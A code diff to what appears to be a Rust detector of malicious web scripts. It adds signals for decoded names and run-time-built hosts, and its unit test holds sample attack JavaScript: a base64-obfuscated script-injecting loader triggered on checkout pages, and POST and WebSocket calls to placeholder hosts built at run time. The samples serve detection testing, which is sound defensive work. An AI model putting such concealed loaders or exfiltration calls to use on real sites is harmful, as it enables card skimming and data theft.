@@ -308,7 +308,9 @@ pub(crate) fn shared_features(f: &Features) -> [f64; N_SHARED] {
         has(SRC_CARD),
         has(SRC_KEY | SRC_SUBMIT),
         has(ENCODE),
-        b(!f.new_hosts.is_empty() && s & (SINKS | SINK_SRC_ATTR | REDIRECT | POPUP) != 0),
+        // A host built at run time is no host the site or the baseline is known to use.
+        b((!f.new_hosts.is_empty() || s & BUILT_URL != 0)
+            && s & (SINKS | SINK_SRC_ATTR | REDIRECT | POPUP) != 0),
         b(!f.lookalikes.is_empty()),
         all(CHECKOUT_WORD | LOCATION),
         b(s & DYN_EVAL != 0 && decoded),
@@ -465,7 +467,7 @@ pub const LOCAL_MAX_TOKENS: usize = FLOW_MAX_TOKENS;
 
 /// Signals of code that can do harm on its own.
 const HARMFUL: Signals =
-    SINKS | SINK_SRC_ATTR | DYN_EVAL | MINER | REDIRECT | POPUP | WORKER | WASM;
+    SINKS | SINK_SRC_ATTR | DYN_EVAL | MINER | REDIRECT | POPUP | WORKER | WASM | DECODED_NAME;
 
 /// The outermost units of at most [`LOCAL_MAX_TOKENS`] tokens (and big units with none
 /// inside), in order.
@@ -705,6 +707,9 @@ fn reasons(f: &Features) -> Vec<String> {
         VISITOR_CHECK,
         STORAGE_WRITE,
         FAKE_FORM,
+        DECODED_NAME,
+        HIDDEN_TEXT,
+        BUILT_URL,
     ] {
         if f.signals & bit != 0 {
             r.push(signals::describe(bit).to_owned());
@@ -854,6 +859,53 @@ mod tests {
             v.reasons[1].starts_with("matches an image request"),
             "{:?}",
             v.reasons
+        );
+    }
+
+    /// Loader stubs that decode even the method they call, and destinations whose host is
+    /// built at run time, still show the sink, the source attribute and a new host.
+    #[test]
+    fn concealed_loaders_and_destinations_are_seen() {
+        let stub = r#"(function (p) {
+              if (!/checkout/.test(document.location.pathname)) return;
+              var el = document[atob("Y3JlYXRlRWxlbWVudA==")](atob(p[0]));
+              el.setAttribute("src", atob(p[1]));
+              document.body.appendChild(el);
+            })(["c2NyaXB0", "eA=="]);"#;
+        let s = features(&analyse(stub), None, Context::default()).signals;
+        for bit in [
+            DECODED_NAME,
+            HIDDEN_TEXT,
+            SINK_INJECT,
+            SINK_SRC_ATTR,
+            DECODE,
+        ] {
+            assert_ne!(s & bit, 0, "{}", signals::describe(bit));
+        }
+        let ctx = Context {
+            site: Some("www.shop.example"),
+        };
+        let built = r#"var c = { h: "x" }; fetch("https://" + c.h + "/p", { method: "POST" });"#;
+        let f = features(&analyse(built), None, ctx);
+        assert_ne!(f.signals & BUILT_URL, 0);
+        assert!(f.new_hosts.is_empty());
+        assert_eq!(
+            shared_features(&f)[4],
+            1.0,
+            "a built host counts as a new host"
+        );
+        let template = "var c = { h: 'x' }; fetch(`wss://${c.h}/p`);";
+        assert_ne!(
+            features(&analyse(template), None, ctx).signals & BUILT_URL,
+            0
+        );
+        let own = r#"fetch(location.protocol + "//" + location.host + "/api");"#;
+        assert_eq!(features(&analyse(own), None, ctx).signals & BUILT_URL, 0);
+        let jar = "var jar = {}; jar[decodeURIComponent(k)] = v;";
+        assert_eq!(
+            features(&analyse(jar), None, ctx).signals & DECODED_NAME,
+            0,
+            "a map keyed by a decoded name is ordinary"
         );
     }
 
